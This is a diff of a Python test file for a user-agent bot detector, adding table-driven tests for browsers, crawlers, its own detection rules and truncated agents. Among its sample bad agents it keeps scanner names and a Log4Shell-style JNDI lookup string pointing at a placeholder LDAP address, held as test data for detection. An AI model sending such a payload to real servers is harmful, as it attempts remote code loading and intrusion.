@@ -12,6 +12,14 @@ from wagtail_leads.logic.bots import bot_reason, is_bot
 from wagtail_leads.logic.kinds import DropReason
 
 DATA = Path(__file__).resolve().parents[3] / "shared" / "data" / "user-agents"
+TABLES = Path(__file__).parent / "agents"
+
+
+def table(name: str) -> list[str]:
+    """Agents of a table, one a line."""
+    lines = (TABLES / name).read_text(encoding="utf-8").splitlines()
+    return [line for line in lines if line and not line.startswith("# ")]
+
 
 #: Written by hand: in-app browsers, televisions, consoles, old and rare browsers. One a line.
 BROWSERS = """
@@ -156,6 +164,35 @@ ZmEu
 sqlmap/1.8#stable (https://sqlmap.org)
 ${jndi:ldap://203.0.113.1/a}
 """.strip().splitlines()
+
+
+def test_not_one_of_hundreds_of_browsers_is_lost():
+    """In-app browsers, telephones of all makers, televisions, consoles, cars, what is old and still in use."""
+    browsers = table("browsers.txt")
+    assert len(browsers) > 300 and len(set(browsers)) == len(browsers)
+    assert [agent for agent in browsers if is_bot(agent)] == []
+
+
+def test_hundreds_of_machines_are_found():
+    """AI, search, Japan's, monitoring, link previews, mail scanners, libraries, driven browsers, SEO, and liars."""
+    machines = table("machines.txt")
+    assert len(machines) > 450 and len(set(machines)) == len(machines)
+    assert [agent for agent in machines if not is_bot(agent)] == []
+
+
+def test_our_own_rules_find_nearly_all_of_them_alone():
+    """What is on no list yet: a new crawler is found by its shape and by what it says of itself."""
+    machines = table("machines.txt")
+    own_rules = [applies for applies, _reason in bots.RULES if applies is not bots.is_on_a_public_list]
+    found = sum(any(rule(agent) for rule in own_rules) for agent in machines)
+    assert found / len(machines) >= 0.97  # measured 0.994
+
+
+def test_a_browser_that_is_cut_off_is_a_browser_only_while_it_names_itself():
+    """Proxies and log formats cut agents. What is left must still say which browser it is."""
+    whole = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
+    assert not is_bot(whole) and not is_bot(whole[: whole.index(" Safari")])
+    assert is_bot(whole[: whole.index("Chrome/")].strip()) and is_bot(whole[:40])
 
 
 @pytest.mark.parametrize("agent", BROWSERS)
